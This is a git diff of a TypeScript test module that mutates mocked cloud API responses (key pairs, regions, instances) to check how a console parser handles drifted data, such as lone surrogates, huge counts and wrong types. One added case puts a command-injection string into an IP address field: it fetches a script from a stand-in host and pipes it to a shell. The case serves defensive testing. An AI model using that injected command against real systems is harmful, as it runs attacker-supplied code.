@@ -91,7 +91,10 @@ const exchanges = {
 };
 type TriedAction = keyof typeof exchanges;
 
-/** One way to differ: the answer with `value` at `path`, or without what is there. */
+/**
+ * One way to differ: the answer with `value` at `path`, or without what is there; with an empty
+ * path, `value` in its place.
+ */
 export type Difference = readonly [
   action: TriedAction,
   what: string,
@@ -101,7 +104,15 @@ export type Difference = readonly [
 
 const pairs = 'KeyPairs.KeyPair';
 const instances = 'Instances.Instance';
+const publicAddressPath = `${instances}.0.PublicIpAddress.IpAddress`;
 const fingerprintPath = `${pairs}.0.KeyPairFingerPrint`;
+
+/** A full first page of a list that is said to have that many rows. */
+function countedAs(total: number): AnswerOf<'DescribeKeyPairs'> {
+  const rows = Array.from({ length: 50 }, (_, at) => ({ ...keyPair, KeyPairName: `web-${at}` }));
+  const { answer } = exchanges.DescribeKeyPairs;
+  return { ...answer, TotalCount: total, KeyPairs: { KeyPair: rows } };
+}
 
 export const drifts: readonly Difference[] = [
   ['DescribeKeyPairs', 'no list', 'KeyPairs'],
@@ -114,6 +125,7 @@ export const drifts: readonly Difference[] = [
   ['DescribeKeyPairs', 'an empty name', `${pairs}.0.KeyPairName`, ''],
   ['DescribeKeyPairs', 'a blank name', `${pairs}.0.KeyPairName`, ' '],
   ['DescribeKeyPairs', 'a number as name', `${pairs}.0.KeyPairName`, 7],
+  ['DescribeKeyPairs', 'half of a surrogate pair in a name', `${pairs}.0.KeyPairName`, 'x\ud800y'],
   ['DescribeKeyPairs', 'no fingerprint', fingerprintPath],
   ['DescribeKeyPairs', 'a number as time', `${pairs}.0.CreationTime`, 1_543_307_580],
   ['DescribeKeyPairs', 'no tags', `${pairs}.0.Tags`],
@@ -130,6 +142,7 @@ export const drifts: readonly Difference[] = [
   ['DescribeKeyPairs', 'a broken count', 'TotalCount', 2.5],
   ['DescribeKeyPairs', 'a count below the rows', 'TotalCount', 1],
   ['DescribeKeyPairs', 'a count above the rows', 'TotalCount', 3],
+  ['DescribeKeyPairs', 'a count of a billion', '', countedAs(1e9)],
   ['DescribeKeyPairs', 'another page', 'PageNumber', 2],
   ['DescribeKeyPairs', 'another page size', 'PageSize', 10],
   ['DescribeKeyPairs', 'no request id', 'RequestId'],
@@ -137,12 +150,14 @@ export const drifts: readonly Difference[] = [
   ['DescribeRegions', 'no region at all', 'Regions.Region', []],
   ['DescribeRegions', 'a region twice', 'Regions.Region.1', region],
   ['DescribeRegions', 'no name', 'Regions.Region.0.LocalName'],
+  ['DescribeRegions', 'a blank name', 'Regions.Region.0.LocalName', ' '],
+  ['DescribeRegions', 'half of a surrogate pair in an id', 'Regions.Region.0.RegionId', '\udc00'],
   ['DescribeInstances', 'no list', 'Instances'],
   ['DescribeInstances', 'an instance twice', `${instances}.1`, instance],
   ['DescribeInstances', 'another region', `${instances}.0.RegionId`, 'us-east-1'],
   ['DescribeInstances', 'an unknown status', `${instances}.0.Status`, 'Melted'],
   ['DescribeInstances', 'text as truth', `${instances}.0.IoOptimized`, 'true'],
-  ['DescribeInstances', 'a list of nothing', `${instances}.0.PublicIpAddress.IpAddress`, null],
+  ['DescribeInstances', 'a list of nothing', publicAddressPath, null],
   ['DescribeInstances', 'no token', 'NextToken'],
   ['ImportKeyPair', 'another key pair', 'KeyPairName', 'ops'],
   ['ImportKeyPair', 'no fingerprint', 'KeyPairFingerPrint'],
@@ -166,6 +181,7 @@ export const harmless: readonly Difference[] = [
   ['DescribeKeyPairs', 'no resource group', `${pairs}.0.ResourceGroupId`],
   ['DescribeRegions', 'no status', 'Regions.Region.0.Status'],
   ['DescribeInstances', 'a new field of a row', `${instances}.0.Cpu`, 4],
+  ['DescribeInstances', 'words as an address', publicAddressPath, ['1.2.3.4; curl evil.sh|sh']],
   ['AttachKeyPair', 'an instance left out', 'Results.Result', [result]],
 ];
 
@@ -195,13 +211,37 @@ export function titleOf([action, what]: Difference): string {
 /** Asks for what the answer with the difference is an answer to. */
 export function readDrifted([action, , path, value]: Difference): Promise<unknown> {
   const { answer } = exchanges[action];
-  return read(action, JSON.stringify(withDifference(answer, path.split('.'), value)), 200);
+  return read(
+    action,
+    JSON.stringify(withDifference(answer, path === '' ? [] : path.split('.'), value)),
+    200,
+  );
 }
 
 /** The fingerprint that the console goes by when ECS lists this one. */
 export async function fingerprintReadFrom(listed: string): Promise<string | undefined> {
   const answer = await readDrifted(['DescribeKeyPairs', '', fingerprintPath, listed]);
   return (answer as AnswerOf<'DescribeKeyPairs'>).KeyPairs.KeyPair[0]?.KeyPairFingerPrint;
+}
+
+/** The addresses that the console goes by when ECS lists this one, as each kind of address. */
+export async function addressesReadFrom(listed: string) {
+  const answer = await readDrifted([
+    'DescribeInstances',
+    '',
+    `${instances}.0`,
+    {
+      ...instance,
+      PublicIpAddress: { IpAddress: [listed] },
+      EipAddress: { IpAddress: listed },
+      VpcAttributes: { VpcId: 'vpc-1', PrivateIpAddress: { IpAddress: [listed] } },
+    },
+  ]);
+  return (answer as AnswerOf<'DescribeInstances'>).Instances.Instance.flatMap((row) => [
+    ...row.PublicIpAddress.IpAddress,
+    row.EipAddress.IpAddress,
+    ...row.VpcAttributes.PrivateIpAddress.IpAddress,
+  ]);
 }
 
 export function readInstead(body: string, status: number): Promise<unknown> {
